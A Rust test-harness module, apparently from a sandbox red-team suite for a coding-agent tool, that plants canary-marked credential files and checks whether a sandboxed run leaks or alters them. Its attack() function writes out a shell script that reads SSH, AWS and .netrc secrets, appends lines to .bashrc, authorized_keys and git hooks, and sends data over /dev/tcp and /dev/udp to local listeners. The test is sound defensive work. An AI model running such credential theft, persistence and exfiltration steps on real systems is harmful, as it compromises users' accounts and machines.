//! A user with keys, a repository, a neighbour and listeners, around a run inside walls.

use crate::support::{Ended, Repo, program, wait_until};
use codelicious::model::policy::Abilities;
use serde_json::Value;
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::io::{Read, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// What stands in the user's files, and nowhere else.
pub const CANARY: &str = "canary7Kq2Vx";
/// Files of the user's home and projects that hold it.
const KEYS: [&str; 5] = [
    "home/.ssh/id_ed25519",
    "home/.netrc",
    "home/.aws/credentials",
    "home/other/.env",
    "project/.env",
];
/// What an attack tries to add a line to.
const TARGETS: [&str; 9] = [
    "home/.bashrc",
    "home/.profile",
    "home/.ssh/authorized_keys",
    "home/.config/autostart/x.desktop",
    "home/other/README.md",
    "project/README.md",
    "project/.git/config",
    "project/.git/hooks/post-checkout",
    "project/.git/hooks/pre-push",
];

/// Who runs the program.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Who {
    /// Whoever runs the tests.
    Me,
    /// An ordinary user, where whoever runs the tests may become one.
    Nobody,
}

const NOBODY: u32 = 65_534;

pub struct World {
    pub repo: Repo,
    who: Who,
    pub program: PathBuf,
    pub agent: PathBuf,
    heard: Arc<Mutex<String>>,
    /// Where the listeners are.
    tcp: SocketAddr,
    udp: SocketAddr,
    /// A port that asks whoever comes by HTTP who they are.
    pub asks: u16,
}

/// What stood at each path.
pub struct Photo(BTreeMap<String, String>);

impl Photo {
    /// Paths whose text is another one, with what it is now.
    pub fn differences(&self, now: &Self) -> BTreeMap<String, String> {
        let gone = self.0.keys().filter(|path| !now.0.contains_key(*path));
        let gone = gone.map(|path| (path.clone(), "gone".to_owned()));
        let other = now
            .0
            .iter()
            .filter(|(path, text)| self.0.get(*path) != Some(*text));
        let other = other.map(|(path, text)| (path.clone(), text.clone()));
        gone.chain(other).collect()
    }
}

impl World {
    /// None, loudly, where there is no wall here, or nobody to become.
    pub fn new(who: Who) -> Option<Self> {
        if who == Who::Nobody && !rustix::process::geteuid().is_root() {
            eprintln!("SKIPPED: only root becomes another user; the same rows run as this one");
            return None;
        }
        let repo = Repo::bare_bones_on_disk();
        let base = repo.base();
        fs::set_permissions(&base, fs::Permissions::from_mode(0o755)).unwrap();
        let examples = program().with_file_name("examples");
        let (mut own, mut agent) = (program(), examples.join("fake-agent"));
        // Where every user reaches them, and every wall.
        for (from, to) in [
            (&mut own, "bin/codelicious"),
            (&mut agent, "bin/fake-agent"),
        ] {
            let to = base.join(to);
            if fs::hard_link(&*from, &to).is_err() {
                // Not by this process: what another thread starts meanwhile would hold it open for writing.
                let copied = Command::new("cp").args([&*from, &to]).status();
                assert!(copied.unwrap().success());
            }
            *from = to;
        }
        let heard = Arc::default();
        let (tcp, udp) = listen(&heard);
        let world = Self {
            repo,
            who,
            program: own,
            agent,
            heard,
            tcp,
            udp,
            asks: ask_who_it_is(),
        };
        let abilities = world.abilities();
        if abilities.landlock == 0 || !abilities.seccomp || !abilities.network_namespace {
            crate::redteam::lack(&format!("no sandbox here: {:?}", abilities.lacking));
            return None;
        }
        fs::create_dir(base.join("out")).unwrap();
        for key in KEYS {
            world.put(key, &format!("{CANARY}\n"));
        }
        for file in [
            "home/.bashrc",
            "home/.config/autostart/x.desktop",
            "home/other/README.md",
        ] {
            world.put(file, "# mine\n");
        }
        world.repo.write(".gitignore", ".env\n/ignored/\n");
        world.repo.write("README.md", "# Project\n");
        world.repo.write(
            "codelicious.toml",
            "[verify]\ndetect = false\ncommands = [\"sh check.sh\"]\n",
        );
        world.repo.write("attack.sh", world.attack());
        world.settings("");
        Some(world)
    }

    /// What the machine can enforce for whoever runs the program.
    fn abilities(&self) -> Abilities {
        let mut command = self.as_user(&self.program);
        let said = command
            .args(["__sandbox", "probe"])
            .current_dir("/")
            .output()
            .unwrap();
        serde_json::from_slice(&said.stdout).unwrap()
    }

    /// The user's own settings, with the engine `mine`, and more.
    pub fn settings(&self, more: &str) {
        let toml = |text: String| toml::Value::from(text).to_string();
        let out = toml(self.at("out"));
        let mut text = String::from(
            "[pr]\nmode = \"spec\"\n[audit]\nignored_file = \"note\"\nverify_config = \"note\"\nnew_dependency = \"note\"\n\
             suppression = \"note\"\nbinary_blob = \"note\"\nstub_body = \"note\"\ntest_not_run = \"note\"\n",
        );
        for preset in ["agent-cli", "verify", "engine-tool"] {
            let _ = writeln!(text, "[sandbox.{preset}]\nwrite = [{out}]");
        }
        let (agent, state, script, log) = (
            toml(self.agent.display().to_string()),
            toml(self.at("out/agent-state")),
            toml(self.at("out/script.json")),
            toml(self.at("out/agent.jsonl")),
        );
        let _ = writeln!(
            text,
            "[engine.mine]\ntype = \"command\"\nprogram = {agent}\nformat = \"text\"\nargs = [\"--script\", {script}, \"--state\", {state}, \"--log\", {log}]"
        );
        self.put("config/codelicious/config.toml", &(text + more));
    }

    /// Tries everything that it can think of, and says `pwned <name>;` wherever it gets. Leaves a sign that it ran.
    fn attack(&self) -> String {
        let (tcp_port, udp_port) = (self.tcp.port(), self.udp.port());
        let quoted = |paths: &[&str]| {
            let quoted: Vec<String> = paths.iter().map(|p| format!("'{}'", self.at(p))).collect();
            quoted.join(" ")
        };
        format!(
            "name=$1\nunset BASH_ENV\necho ran >'{out}/'\"$name.ran\"\n\
             cat {keys} 2>/dev/null >'{out}/'\"$name.loot\"\n\
             for file in {targets} '{base}/home/new-'\"$name\" '{base}/project/new-'\"$name\"; do\n\
             {{ echo \"# pwned $name;\" >>\"$file\"; }} 2>/dev/null\ndone\n\
             bash -c \"echo 'pwned $name;' >/dev/tcp/127.0.0.1/{tcp_port}\" 2>/dev/null\n\
             bash -c \"echo 'pwned $name;' >/dev/udp/127.0.0.1/{udp_port}\" 2>/dev/null\n\
             exit 0\n",
            out = self.at("out"),
            base = self.repo.base().display(),
            keys = quoted(&KEYS),
            targets = quoted(&TARGETS),
        )
    }

    /// What came to the listeners, all that was sent before included.
    pub fn heard(&self) -> String {
        static ASKED: AtomicUsize = AtomicUsize::new(0);
        let mark = |way: &str| format!("{way}-{};", ASKED.fetch_add(1, Ordering::Relaxed));
        let (by_tcp, by_udp) = (mark("tcp"), mark("udp"));
        TcpStream::connect(self.tcp)
            .and_then(|mut stream| stream.write_all(by_tcp.as_bytes()))
            .unwrap();
        let own = UdpSocket::bind("127.0.0.1:0").unwrap();
        own.send_to(by_udp.as_bytes(), self.udp).unwrap();
        wait_until("the listeners", || {
            let heard = self.heard.lock().unwrap();
            heard.contains(&by_tcp) && heard.contains(&by_udp)
        });
        self.heard.lock().unwrap().clone()
    }

    /// A path beside the repository.
    pub fn at(&self, name: &str) -> String {
        self.repo.base().join(name).display().to_string()
    }

    pub fn put(&self, path: &str, text: &str) {
        let path = self.repo.base().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    pub fn script(&self, script: &Value) {
        self.put("out/script.json", &script.to_string());
    }

    /// Calls of the engine `mine` so far.
    pub fn calls(&self) -> Vec<Value> {
        let text = fs::read_to_string(self.at("out/agent.jsonl")).unwrap_or_default();
        text.lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect()
    }

    pub fn commit_base(&self, message: &str) {
        self.repo.git(&["add", "-A"]);
        self.repo.git(&["commit", "-qm", message]);
        self.repo.git(&["push", "-q", "-u", "origin", "main"]);
    }

    fn envs(&self) -> BTreeMap<String, String> {
        let mut envs = self.repo.envs();
        envs.remove("CODELICIOUS_SANDBOX");
        match self.who {
            Who::Me => {
                let home = std::env::var("HOME").unwrap_or_default();
                for (name, below) in [("RUSTUP_HOME", ".rustup"), ("PYENV_ROOT", ".pyenv")] {
                    let found = std::env::var(name).unwrap_or_else(|_| format!("{home}/{below}"));
                    if Path::new(&found).is_dir() {
                        envs.insert(name.to_owned(), found);
                    }
                }
            }
            Who::Nobody => {
                let path = format!("{}:/usr/local/bin:/usr/bin:/bin", self.at("bin"));
                envs.insert("PATH".to_owned(), path);
            }
        }
        envs
    }

    /// A program, or a module of Python as `python:NAME`, is there for this user.
    pub fn has(&self, what: &str) -> bool {
        let line = match what.strip_prefix("python:") {
            Some(module) => format!("python3 -c 'import {module}'"),
            None => format!("command -v {what}"),
        };
        let mut command = self.as_user("sh");
        let status = command.args(["-c", &line]).output().unwrap().status;
        status.success()
    }

    fn as_user(&self, program: impl AsRef<std::ffi::OsStr>) -> Command {
        let mut command = Command::new(program);
        command
            .current_dir(&self.repo.root)
            .env_clear()
            .envs(self.envs())
            .stdin(Stdio::null());
        if self.who == Who::Nobody {
            command.uid(NOBODY).gid(NOBODY);
        }
        command
    }

    /// The program, run as this world's user to its end.
    pub fn run(&self, args: &[&str]) -> Ended {
        self.run_with(args, &[])
    }

    pub fn run_with(&self, args: &[&str], envs: &[(&str, &str)]) -> Ended {
        self.own(self.who);
        let mut command = self.as_user(&self.program);
        let output = command.args(args).envs(envs.iter().copied()).output();
        self.own(Who::Me);
        Ended::new(&output.unwrap())
    }

    /// Starts the program as whoever runs the tests.
    pub fn start(&self, args: &[&str]) -> Child {
        assert_eq!(self.who, Who::Me);
        let mut command = self.as_user(&self.program);
        command
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        command.spawn().unwrap()
    }

    /// Gives everything to a user: git refuses repositories of others.
    fn own(&self, who: Who) {
        if self.who == Who::Me {
            return;
        }
        let id = match who {
            Who::Me => 0,
            Who::Nobody => NOBODY,
        };
        let changed = Command::new("chown")
            .args(["-hR", &format!("{id}:{id}")])
            .args(
                [
                    "home",
                    "cache",
                    "config",
                    "out",
                    "project",
                    "origin.git",
                    "state",
                ]
                .map(|n| self.at(n)),
            )
            .status();
        assert!(changed.unwrap().success());
    }

    /// Chunks that are committed.
    pub fn built(&self) -> Vec<String> {
        self.built_in("codelicious/specs-work")
    }

    pub fn built_in(&self, branch: &str) -> Vec<String> {
        let there = self.repo.git(&["branch", "--list", branch]);
        if there.is_empty() {
            return Vec::new();
        }
        let commits = self.repo.commits(branch);
        commits.into_iter().filter_map(|(_, chunk)| chunk).collect()
    }

    /// What the user has, as texts: everything but what a run may write, and of git what only people change.
    pub fn photograph(&self) -> Photo {
        let mut found = BTreeMap::new();
        let ours = [
            "cache",
            "out",
            "origin.git",
            "state",
            "project/.codelicious",
            "project/.git",
        ];
        collect(&self.repo.base(), &self.repo.base(), &ours, &mut found);
        let dot_git = self.repo.root.join(".git");
        let runs = [
            "objects",
            "refs",
            "logs",
            "worktrees",
            "packed-refs",
            "FETCH_HEAD",
            "index",
        ];
        let of_git = |path: &str| !path.starts_with("codelicious");
        let mut git = BTreeMap::new();
        collect(&dot_git, &dot_git, &runs, &mut git);
        git.retain(|path, _| of_git(path));
        found.extend(
            git.into_iter()
                .map(|(path, text)| (format!("project/.git/{path}"), text)),
        );
        found.insert("refs and index".to_owned(), self.repo.users_things());
        Photo(found)
    }

    /// Places that hold the canary although they are not the user's own.
    pub fn canaries(&self) -> Vec<String> {
        self.holding(&[CANARY], &KEYS)
    }

    /// Every file below the world, and every object of both repositories, that holds one of these texts; but for those
    /// that may.
    pub fn holding(&self, texts: &[&str], but: &[&str]) -> Vec<String> {
        let mut found = Vec::new();
        let all: Vec<String> = texts.iter().map(|text| regex::escape(text)).collect();
        let all = regex::bytes::Regex::new(&all.join("|")).unwrap();
        let holds = |bytes: &[u8]| {
            let found = all.find(bytes)?;
            Some(String::from_utf8_lossy(found.as_bytes()).into_owned())
        };
        let mut files = Vec::new();
        every_file(&self.repo.base(), &mut files);
        for path in files {
            let name = path
                .strip_prefix(self.repo.base())
                .unwrap()
                .display()
                .to_string();
            if but.iter().any(|own| name == *own) || name.starts_with("bin/") {
                continue;
            }
            if let Some(text) = holds(name.as_bytes()) {
                found.push(format!("the name {name} holds {text}"));
            }
            let Ok(bytes) = fs::read(&path) else { continue };
            if let Some(text) = holds(&bytes) {
                found.push(format!("{name} holds {text}"));
            }
        }
        for dir in [&self.repo.root, &self.repo.origin] {
            let output = Command::new("git")
                .args(["cat-file", "--batch-all-objects", "--unordered", "--batch"])
                .current_dir(dir)
                .env_clear()
                .envs(self.repo.envs())
                .output()
                .unwrap();
            assert!(output.status.success());
            if let Some(text) = holds(&output.stdout) {
                found.push(format!("an object of {} holds {text}", dir.display()));
            }
        }
        found
    }

    /// Files of this name below a folder beside the repository, with what stands in them.
    pub fn named(&self, name: &str, below: &str) -> Vec<(String, String)> {
        let mut files = Vec::new();
        every_file(&self.repo.base().join(below), &mut files);
        files.retain(|path| path.file_name().is_some_and(|n| n == name));
        files
            .into_iter()
            .map(|path| {
                (
                    path.display().to_string(),
                    fs::read_to_string(path).unwrap_or_default(),
                )
            })
            .collect()
    }

    /// What is known of a chunk, for a person who has to find out why it was not built.
    pub fn story(&self, chunk: &str, ended: &Ended) -> String {
        let events: Vec<String> = self
            .repo
            .events()
            .into_iter()
            .filter(|event| event["chunk"].as_str().is_some_and(|c| c.ends_with(chunk)))
            .map(|event| event.to_string())
            .collect();
        format!("{}\n{}", events.join("\n"), ended.stderr)
    }
}

/// Keeps what comes to two listeners.
fn listen(heard: &Arc<Mutex<String>>) -> (SocketAddr, SocketAddr) {
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let at = (tcp.local_addr().unwrap(), udp.local_addr().unwrap());
    let by_tcp = Arc::clone(heard);
    std::thread::spawn(move || {
        for mut stream in tcp.incoming().map_while(Result::ok) {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(60)));
            let mut text = String::new();
            let _ = stream.read_to_string(&mut text);
            by_tcp.lock().unwrap().push_str(&format!("{text} came\n"));
        }
    });
    let by_udp = Arc::clone(heard);
    std::thread::spawn(move || {
        let mut bytes = [0; 200];
        while let Ok((n, _)) = udp.recv_from(&mut bytes) {
            let text = String::from_utf8_lossy(&bytes[..n]).into_owned();
            by_udp.lock().unwrap().push_str(&text);
        }
    });
    at
}

/// A server that answers everybody that it wants a name and a password; its port.
fn ask_who_it_is() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(60)));
            let _ = stream.read(&mut [0; 4096]);
            let _ = stream.write_all(
                b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            );
        }
    });
    port
}

/// Texts below a folder, by path; links are where they lead.
fn collect(base: &Path, dir: &Path, but: &[&str], found: &mut BTreeMap<String, String>) {
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        let name = path.strip_prefix(base).unwrap().display().to_string();
        let Ok(meta) = path.symlink_metadata() else {
            continue;
        };
        if but.contains(&name.as_str()) || name.starts_with("bin/") {
            continue;
        }
        let text = match (meta.is_dir(), meta.is_symlink()) {
            (true, _) => {
                collect(base, &path, but, found);
                "a folder".to_owned()
            }
            (_, true) => format!("-> {}", fs::read_link(&path).unwrap().display()),
            _ => String::from_utf8_lossy(&fs::read(&path).unwrap_or_default()).into_owned(),
        };
        let mode = meta.permissions().mode();
        found.insert(name, format!("{mode:o} {text}"));
    }
}

fn every_file(dir: &Path, found: &mut Vec<PathBuf>) {
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        match path.symlink_metadata() {
            Ok(meta) if meta.is_dir() => every_file(&path, found),
            Ok(meta) if meta.is_file() => found.push(path),
            _ => {}
        }
    }
}
